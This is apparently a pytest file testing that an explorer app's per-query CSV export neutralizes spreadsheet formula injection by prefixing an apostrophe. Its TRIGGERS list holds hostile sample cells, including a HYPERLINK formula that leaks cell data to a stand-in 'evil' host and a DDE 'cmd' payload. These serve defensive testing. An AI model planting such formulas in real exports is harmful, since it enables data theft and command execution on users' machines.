"""The per-query CSV of the Metrics page (and of ``explorer compare --per-query``) holds no live formula."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from explorer.core.spreadsheet import neutralize_cell, safe_csv
from tests.ui.conftest import app, make_finished_run, problems

TRIGGERS = ["=HYPERLINK(\"http://evil/?\"&A1,\"x\") ", "+cmd|' /C calc'!A0 ", "-2+3 ", "@SUM(A1:A9) ", "\t=1+1 ",
            "\r=1+1 ", "  =1+1 "]


@pytest.mark.parametrize("cell", TRIGGERS)
def test_formula_like_text_gets_an_apostrophe(cell):
    assert neutralize_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["what about bees", "a=b", "e-mail", "", 3, -0.25, None])
def test_other_cells_are_unchanged(cell):
    assert neutralize_cell(cell) == cell


def test_numbers_stay_numbers_and_text_round_trips():
    frame = pd.DataFrame({"query": ["=1+1", "plain"], "delta": [-0.5, 0.25], "=col": ["x", "y"]})
    back = pd.read_csv(io.StringIO(safe_csv(frame)))
    assert back["query"].tolist() == ["'=1+1", "plain"]
    assert back["delta"].tolist() == [-0.5, 0.25]
    assert list(back.columns) == ["query", "delta", "'=col"]


def _hostile_csv(path, tiny_csv):
    frame = pd.read_csv(tiny_csv)
    queries = {q: TRIGGERS[i % len(TRIGGERS)] + q for i, q in enumerate(dict.fromkeys(frame["query"]))}
    frame["query"] = frame["query"].map(queries)
    frame.to_csv(path, index=False)
    return path


def test_metrics_page_download_neutralizes_formulas(tmp_path, tiny_csv, monkeypatch):
    from explorer import pipeline
    from explorer.workspace import DatasetChoice, open_workspace
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    downloads: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def record(self, path_or_data, mimetype, kind, filename=None):
        if filename:
            downloads[filename] = path_or_data if isinstance(path_or_data, bytes) else str(path_or_data).encode()
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    ws = open_workspace()
    choice = DatasetChoice(spec=str(_hostile_csv(tmp_path / "hostile.csv", tiny_csv)), name="hostile")
    ws.set_dataset_choice(choice)
    make_finished_run(ws, pipeline.load_dataset(choice))
    at = app()
    at.run()
    at.switch_page("pages/metrics.py").run()
    assert problems(at) == []
    name = next(n for n in downloads if n.startswith("per_query_"))
    rows = pd.read_csv(io.BytesIO(downloads[name]), keep_default_na=False)
    assert len(rows) > 0
    for query in rows["query"]:
        assert query.startswith("'") and query[1:].lstrip(" ")[:1] in "=+-@\t\r", query
